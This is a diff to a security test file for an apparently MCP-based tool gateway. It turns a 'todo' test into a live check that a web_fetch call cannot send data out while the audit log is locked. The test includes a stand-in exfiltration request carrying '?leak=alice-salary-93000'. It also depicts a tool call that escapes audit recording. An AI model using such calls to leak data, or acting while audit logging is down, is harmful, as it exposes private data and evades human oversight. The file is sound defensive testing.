@@ -7,9 +7,9 @@
 // Seen failing: with the audit database locked by another writer, the receiving server got
 // `GET /?leak=…` and the audit log holds no record of the call.
 //
-// Open hole, not fixed here: the fix belongs on the audit-intent stage of the call pipeline
-// (refuse every tool with a network or upstream effect while the audit store is failing, or
-// commit an intent for them too), which is the gateway hot path another helper is changing.
+// Fixed: a `read` tool that reaches outside the gateway (an upstream tool, or one labelled
+// untrusted-source / external-sink) commits its intent record first, like a write
+// (mcp/stages/audit-intent.ts); while that commit fails it does not run (503).
 import assert from 'node:assert/strict';
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -49,39 +49,33 @@ describe('attack: a read tool sends data out while the audit log cannot commit',
     await new Promise((r) => site.close(r));
   });
 
-  it(
-    'no request leaves the gateway without its audit record',
-    {
-      todo: 'open hole: read-class tools (web_fetch, upstream reads) run with no intent record, so they run while the audit store cannot commit (fix in mcp/stages/audit-intent.ts, hot path)',
-    },
-    async () => {
-      const tip = await auditTip(t);
-      const lock = new Database(path.join(t.dataDir, 'audit.db'));
-      lock.pragma('busy_timeout = 0');
-      lock.exec('BEGIN IMMEDIATE');
-      let status: number;
-      try {
-        const res = await postMcp(
-          t.url,
-          legacyToolCall('web_fetch', { url: `${base}/?leak=alice-salary-93000` }),
-          {
-            key,
-          },
-        );
-        status = res.status;
-        await res.text();
-      } finally {
-        lock.exec('ROLLBACK');
-        lock.close();
-      }
-      const leaked = received.filter((u) => u.includes('leak='));
-      const records = (await recordsAfter(t, tip, 'tool-call')).filter((r) => r.tool === 'web_fetch');
-      assert.ok(
-        leaked.length === 0 || records.length > 0,
-        `answered ${status}; the site received ${JSON.stringify(leaked)}; records of the call: ${records.length}`,
+  it('no request leaves the gateway without its audit record', async () => {
+    const tip = await auditTip(t);
+    const lock = new Database(path.join(t.dataDir, 'audit.db'));
+    lock.pragma('busy_timeout = 0');
+    lock.exec('BEGIN IMMEDIATE');
+    let status: number;
+    try {
+      const res = await postMcp(
+        t.url,
+        legacyToolCall('web_fetch', { url: `${base}/?leak=alice-salary-93000` }),
+        {
+          key,
+        },
       );
-    },
-  );
+      status = res.status;
+      await res.text();
+    } finally {
+      lock.exec('ROLLBACK');
+      lock.close();
+    }
+    const leaked = received.filter((u) => u.includes('leak='));
+    const records = (await recordsAfter(t, tip, 'tool-call')).filter((r) => r.tool === 'web_fetch');
+    assert.ok(
+      leaked.length === 0 || records.length > 0,
+      `answered ${status}; the site received ${JSON.stringify(leaked)}; records of the call: ${records.length}`,
+    );
+  });
 
   it('the legitimate use beside it: with the audit log healthy the fetch runs and is recorded', async () => {
     const tip = await auditTip(t);
